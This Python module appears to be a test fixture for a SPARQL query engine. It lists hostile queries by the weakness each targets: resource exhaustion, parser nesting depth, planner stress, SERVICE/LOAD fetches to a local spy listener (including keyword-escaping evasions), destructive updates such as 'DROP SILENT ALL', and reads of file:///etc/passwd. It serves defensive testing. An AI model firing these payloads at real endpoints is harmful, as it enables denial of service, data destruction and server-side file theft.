"""Hostile queries, by what they are meant to break. SPYPORT is where a spy listens."""

from __future__ import annotations

from typing import Final

SPY: Final = "http://127.0.0.1:SPYPORT/"
ESCAPED_S: Final = "\\u0053"

_CROSS: Final = " . ".join(f"?a{n} ?b{n} ?c{n}" for n in range(8))
_VALUES: Final = " ".join(f"VALUES ?v{n} {{ 1 2 3 4 5 6 7 8 9 10 }}" for n in range(12))
_KILOBYTE: Final = 'CONCAT("' + "x" * 1000 + '", STR(?a0))'

RUNAWAYS: Final = {
    "cartesian product": f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} }}",
    "cartesian product of values": f"SELECT (COUNT(*) AS ?n) {{ {_VALUES} }}",
    "cartesian product by union": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"{{ ?a{n} ?b{n} ?c{n} }} UNION {{ ?c{n} ?b{n} ?a{n} }}" for n in range(9))
    + " }",
    "any path between all": "SELECT (COUNT(*) AS ?n) { "
    + " . ".join(f"?x{n} (<urn:x>|!<urn:x>)* ?y{n}" for n in range(6))
    + " }",
    "path both ways": "SELECT (COUNT(*) AS ?n) { "
    + " . ".join(f"?x{n} ((<urn:x>|!<urn:x>)|^(<urn:x>|!<urn:x>))+ ?y{n}" for n in range(6))
    + " }",
    "path of nested stars": "SELECT (COUNT(*) AS ?n) { "
    + " . ".join(f"?x{n} ((((!<urn:x>)*)*/(!<urn:y>)*)*)* ?y{n}" for n in range(6))
    + " }",
    "regex on a product": f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} "
    'FILTER REGEX(CONCAT(STR(?a0), STR(?c7)), "(a|b|ab)*(x+x+)+y$", "i") }',
    "subselects without a join": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"{{ SELECT ?a{n} {{ ?a{n} ?p{n} ?o{n} }} }}" for n in range(9))
    + " }",
    "exists in a product": f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} "
    "FILTER NOT EXISTS { ?x ?y ?z . ?u ?v ?w FILTER(?x = ?w && ?u = ?a0) } }",
    "minus of a product": f"SELECT (COUNT(*) AS ?n) {{ {_CROSS} MINUS {{ ?a0 ?b0 5 . ?x ?y ?z }}"
    " }",
    "optionals of everything": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c "
    + " ".join(f"OPTIONAL {{ ?a{n} ?b{n} ?c{n} }}" for n in range(8))
    + " }",
    "description of everything": f"DESCRIBE ?a0 {{ {_CROSS} FILTER(?a0 = ?a7) }}",
}

MEMORY: Final = {
    "sorting a product": f"SELECT * {{ {_CROSS} }} ORDER BY DESC(?c7) ?a0 ?c3",
    "distinct product": f"SELECT (COUNT(*) AS ?n) {{ SELECT DISTINCT * {{ {_CROSS} }} }}",
    "grouping a product": f"SELECT ?a0 ?a1 ?a2 ?a3 ?a4 (COUNT(*) AS ?n) {{ {_CROSS} }} "
    "GROUP BY ?a0 ?a1 ?a2 ?a3 ?a4",
    "group_concat of a product": f"SELECT (GROUP_CONCAT({_KILOBYTE}) AS ?s) {{ {_CROSS} }}",
    "doubling strings": 'SELECT (STRLEN(?s40) AS ?n) { BIND("xxxxxxxxxxxxxxxx" AS ?s0) '
    + " ".join(f"BIND(CONCAT(?s{n}, ?s{n}) AS ?s{n + 1})" for n in range(40))
    + " }",
    "doubling strings by replacing": 'SELECT (STRLEN(?s12) AS ?n) { BIND("xxxxxxxxxx" AS ?s0) '
    + " ".join(f'BIND(REPLACE(?s{n}, "x", ?s{n}) AS ?s{n + 1})' for n in range(12))
    + " }",
    "construct of a product": f"CONSTRUCT {{ ?a0 ?b1 ?c2 }} {{ {_CROSS} }}",
    "rows without end": f"SELECT * {{ {_CROSS} }}",
}


def nested(opening: str, closing: str, count: int = 20_000) -> str:
    """Return brackets that nest."""
    return opening * count + closing * count


DEEP: Final = {
    "groups": "SELECT * " + nested("{", "}"),
    "groups never closed": "SELECT * " + "{" * 40_000,
    "brackets closed only": "SELECT * {" + "}" * 40_000,
    "parentheses": "SELECT * { FILTER(" + "(" * 20_000 + "1" + ")" * 20_000 + ") }",
    "blank nodes": "SELECT * { ?s ?p " + "[ ?p " * 10_000 + "1" + "]" * 10_000 + " }",
    "collections": "SELECT * { ?s ?p " + "(" * 20_000 + "1" + ")" * 20_000 + " }",
    "path parentheses": "SELECT * { ?s " + "(" * 20_000 + "<urn:p>" + ")" * 20_000 + " ?o }",
    "functions": "SELECT * { BIND(" + "STR(" * 10_000 + "1" + ")" * 10_000 + " AS ?x) }",
    "conditions": "SELECT * { BIND(" + "IF(1," * 9_000 + "1" + ",2)" * 9_000 + " AS ?x) }",
    "subselects": "SELECT * {" + "{SELECT * {" * 5_000 + "}}" * 5_000 + "}",
    "exists": "ASK {" + "FILTER EXISTS {" * 4_000 + "}" * 4_000 + "}",
    "optionals": "ASK {" + "OPTIONAL {" * 5_000 + "}" * 5_000 + "}",
    "graphs": "ASK {" + "GRAPH ?g {" * 5_000 + "}" * 5_000 + "}",
    "minuses": "ASK {" + "MINUS {" * 8_000 + "}" * 8_000 + "}",
    "quoted triples": "ASK {" + "<<" * 20_000 + "?s ?p ?o" + ">>" * 12_000 + "?p ?o }",
    "quoted triple terms": "ASK { ?s ?p " + "<<( ?s ?p " * 5_000 + "1" + ")>>" * 5_000 + " }",
}
ENDLESS_CHAINS: Final = {
    "negations": "ASK { FILTER(" + "!" * 60_000 + "true) }",
    "minus signs": "ASK { FILTER(" + "-" * 60_000 + "1) }",
    "minus signs apart": "ASK { FILTER(" + "- " * 30_000 + "1) }",
    "sums": "ASK { FILTER(1" + "+1" * 30_000 + ") }",
    "sums of variables": "ASK { FILTER(?x" + " + ?x" * 12_000 + ") }",
    "conjunctions": "ASK { FILTER(1" + "&&1" * 20_000 + ") }",
    "disjunctions": "ASK { FILTER(?x" + "||?x" * 15_000 + ") }",
    "members": "ASK { FILTER(1 IN (" + "1," * 30_000 + "1)) }",
    "alternatives": "ASK { ?s <a:b>" + "|<a:b>" * 10_000 + " ?o }",
    "alternative words": "ASK { ?s a" + "|a" * 30_000 + " ?o }",
    "steps": "ASK { ?s a" + "/a" * 30_000 + " ?o }",
    "inverses": "ASK { ?s " + "^" * 60_000 + "a ?o }",
    "repetitions": "ASK { ?s a" + "*" * 60_000 + " ?o }",
    "negated set": "ASK { ?s !(a" + "|a" * 30_000 + ") ?o }",
    "objects": "ASK { ?s a ?o" + ",?o" * 20_000 + " }",
    "unions": "ASK { {}" + "UNION{}" * 9_000 + " }",
    "optionals in a row": "ASK { " + "OPTIONAL{}" * 6_500 + " }",
    "filters": "ASK { " + "FILTER(1)" * 7_000 + " }",
    "binds": "ASK { " + " ".join(f"BIND(1 AS ?v{n})" for n in range(3_500)) + " }",
    "values": "SELECT * { VALUES ?x {" + " 1" * 32_000 + " } }",
    "wide values": "SELECT * { VALUES (" + "?x " * 10_000 + ") { (" + "1 " * 10_000 + ") } }",
    "projection": "SELECT " + " ".join(f"?v{n}" for n in range(9_000)) + " {}",
    "order conditions": "SELECT * { ?s ?p ?o } ORDER BY" + " ?s" * 20_000,
    "group conditions": "SELECT (1 AS ?x) { ?s ?p ?o } GROUP BY" + " ?s" * 20_000,
    "having conditions": "SELECT (1 AS ?x) { ?s ?p ?o } GROUP BY ?s HAVING" + " (?s)" * 12_000,
    "aggregates": "SELECT " + " ".join(f"(COUNT(*) AS ?v{n})" for n in range(3_000)) + " {}",
    "prefixes": " ".join(f"PREFIX p{n}: <a:>" for n in range(3_500)) + " ASK {}",
    "bases": "BASE <a:>" * 7_000 + " ASK {}",
    "graphs to read": "SELECT * " + "FROM <a:>" * 7_000 + " {}",
    "concatenation": "ASK { FILTER(CONCAT(" + '"",' * 21_000 + '"")="") }',
    "repeats in a regex": 'ASK { ?s ?p ?o FILTER REGEX(STR(?s), "(((a{1,200}){1,200}){1,200})") }',
    "comments": "#\n" * 32_000 + "ASK {}",
}
PLANNER: Final = {
    "patterns of one star": "ASK { " + " ".join(f"?s ?p{n} ?o{n} ." for n in range(500)) + " }",
    "patterns of one chain": "ASK { "
    + " ".join(f"?v{n} ?p ?v{n + 1} ." for n in range(390))
    + " }",
    "patterns without a join": "ASK { "
    + " ".join(f"?a{n} ?b{n} ?c{n} ." for n in range(390))
    + " }",
    "predicates of one node": "ASK { ?s a ?o " + "; a ?o " * 390 + " }",
    "long collections": "ASK { " + " ".join("?s ?p (1 2 3 4 5) ." for _ in range(390)) + " }",
    "one long collection": "ASK { ?s ?p (" + "1 " * 500 + ") }",
    "one longer collection": "ASK { ?s ?p (" + "1 " * 30_000 + ") }",
    "objects of variables": "ASK { ?s ?p " + ",".join(f"?o{n}" for n in range(500)) + " }",
    "groups to join": "ASK { " + "{ ?s ?p ?o }" * 390 + " }",
    "optionals to order": "ASK { ?s ?p ?o "
    + " ".join(f"OPTIONAL {{ ?s ?p{n} ?o{n} }}" for n in range(190))
    + " }",
    "unions to join": "ASK { " + "{ ?s ?p ?o } UNION { ?o ?p ?s } " * 190 + " }",
    "paths to join": "ASK { " + " ".join(f"?v{n} !a* ?v{n + 1} ." for n in range(200)) + " }",
}

_SERVICE: Final = f"SERVICE <{SPY}> {{ ?a ?b ?c }}"
FETCHES: Final = {
    "plain": f"SELECT * {{ {_SERVICE} }}",
    "silent": f"SELECT * {{ SERVICE SILENT <{SPY}> {{ ?a ?b ?c }} }}",
    "in lower case": f"select * {{ service silent <{SPY}> {{ ?a ?b ?c }} }}",
    "in mixed case": f"SELECT * {{ sErViCe <{SPY}> {{ ?a ?b ?c }} }}",
    "in a subselect": f"SELECT * {{ {{ SELECT * {{ {_SERVICE} }} }} }}",
    "in EXISTS": f"ASK {{ FILTER EXISTS {{ {_SERVICE} }} }}",
    "in NOT EXISTS of an IF": f"SELECT (IF(NOT EXISTS {{ {_SERVICE} }}, 1, 2) AS ?x) {{}}",
    "in MINUS": f"ASK {{ ?a ?b ?c MINUS {{ {_SERVICE} }} }}",
    "in HAVING": f"SELECT ?a {{ ?a ?b ?c }} GROUP BY ?a HAVING (EXISTS {{ {_SERVICE} }})",
    "in ORDER BY": f"SELECT * {{ ?a ?b ?c }} ORDER BY (EXISTS {{ {_SERVICE} }})",
    "in a graph": f"ASK {{ GRAPH ?g {{ {_SERVICE} }} }}",
    "in CONSTRUCT": f"CONSTRUCT {{ ?a ?b ?c }} WHERE {{ {_SERVICE} }}",
    "in DESCRIBE": f"DESCRIBE ?a WHERE {{ {_SERVICE} }}",
    "of a variable": f"ASK {{ VALUES ?x {{ <{SPY}> }} SERVICE ?x {{ ?a ?b ?c }} }}",
    "of a computed variable": f'ASK {{ BIND(IRI("{SPY}") AS ?x) SERVICE SILENT ?x {{}} }}',
    "of a prefixed name": f"PREFIX x: <{SPY}> ASK {{ SERVICE x:y {{ ?a ?b ?c }} }}",
    "of the empty prefix": f"PREFIX : <{SPY}> ASK {{ SERVICE:x{{ ?a ?b ?c }} }}",
    "of a relative IRI": f"BASE <{SPY}> ASK {{ SERVICE <x> {{ ?a ?b ?c }} }}",
    "with comments inside": f"ASK {{ SERVICE#x\n#y\r<{SPY}>#z\n{{ ?a ?b ?c }} }}",
    "after a comment that ends": f"ASK {{ # nothing\r{_SERVICE} }}",
    "after a comparison": f"ASK {{ ?a ?p ?b FILTER(?a<?b){_SERVICE} }}",
    "after less than and a quote": f"ASK {{ ?a ?p ?b FILTER(?a<'>'){_SERVICE} FILTER(?a='') }}",
    "after a word without a blank": f"ASK {{ ?a ?p true{_SERVICE} }}",
    "after a number without a blank": f"ASK {{ ?a ?p 1.{_SERVICE} }}",
    "after a string with escapes": f'ASK {{ ?a ?p "\\"" . {_SERVICE} }}',
    "after a long string": f'ASK {{ ?a ?p """ "" \\""" """ . {_SERVICE} }}',
    "glued to SILENT": f"ASK {{ SERVICESILENT<{SPY}>{{ ?a ?b ?c }} }}",
    "of a file": "ASK { SERVICE <file:///etc/passwd> { ?a ?b ?c } }",
    "LOAD": f"LOAD <{SPY}>",
    "LOAD of a file": "LOAD SILENT <file:///etc/passwd> INTO GRAPH <urn:x>",
    "LOAD behind a query": f"ASK {{}} ; LOAD <{SPY}>",
}
# Escaped keywords: by section 19.2 they are keywords, though the engine refuses them.
ESCAPED_FETCHES: Final = {
    "first letter": f"ASK {{ {ESCAPED_S}ERVICE <{SPY}> {{ ?a ?b ?c }} }}",
    "last letter": f"ASK {{ SERVIC\\U00000045 <{SPY}> {{ ?a ?b ?c }} }}",
    "all letters": "ASK { \\u0053\\u0045\\u0052\\u0056\\u0049\\u0043\\u0045 " + f"<{SPY}> {{}} }}",
    "the end of a string": f'ASK {{ ?a ?b "\\u0022 {_SERVICE} #" }}',
    "the end of a comment": f"ASK {{ #\\u000A {_SERVICE} \n }}",
}
LOOK_ALIKES: Final = {
    "string": 'ASK { BIND("SERVICE <http://x/> {}" AS ?x) }',
    "single quotes": "ASK { BIND('LOAD <http://x/>' AS ?x) }",
    "long string": 'ASK { BIND("""a " SERVICE { """ AS ?x) }',
    "string with an escape": r'ASK { BIND("\" SERVICE <http://x/> {}" AS ?x) }',
    "comment": "ASK { } # SERVICE <http://x/> {}",
    "comment between": "ASK { # SERVICE\n }",
    "IRI": "ASK { OPTIONAL { <http://example.org/SERVICE#LOAD> ?p ?o } }",
    "variable": "ASK { OPTIONAL { ?SERVICE ?service $LOAD } }",
    "prefixed name": "PREFIX s: <http://x/> ASK { OPTIONAL { s:SERVICE ?p s:LOAD } }",
    "prefix": "PREFIX service: <http://x/> ASK { OPTIONAL { ?s service:x ?o } }",
    "blank node": "ASK { OPTIONAL { _:SERVICE ?p ?o } }",
    "language": 'ASK { OPTIONAL { ?s ?p "x"@service } }',
    "part of a name": "ASK { OPTIONAL { ?services ?p ?microservice } }",
}
UPDATES: Final = {
    "insert data": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "insert where": "INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
    "delete where": "DELETE WHERE { ?s ?p ?o }",
    "delete data": "prefix x: <urn:> delete data { x:a x:b x:c }",
    "with": "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "clear": "CLEAR ALL",
    "drop": "# SELECT\nDROP SILENT ALL",
    "create": "CREATE GRAPH <urn:g>",
    "copy": "COPY DEFAULT TO <urn:g>",
    "move": "MOVE <urn:g> TO DEFAULT",
    "add": "ADD DEFAULT TO <urn:g>",
}
ELSEWHERE: Final = {
    "file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "spy": f"SELECT * FROM <{SPY}> {{ ?s ?p ?o }}",
    "named file": "SELECT * FROM NAMED <file:///etc/passwd> { GRAPH ?g { ?s ?p ?o } }",
    "named spy": f"SELECT * FROM NAMED <{SPY}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "graph of the spy": f"SELECT * {{ GRAPH <{SPY}> {{ ?s ?p ?o }} }}",
    "described file": "DESCRIBE <file:///etc/passwd>",
}
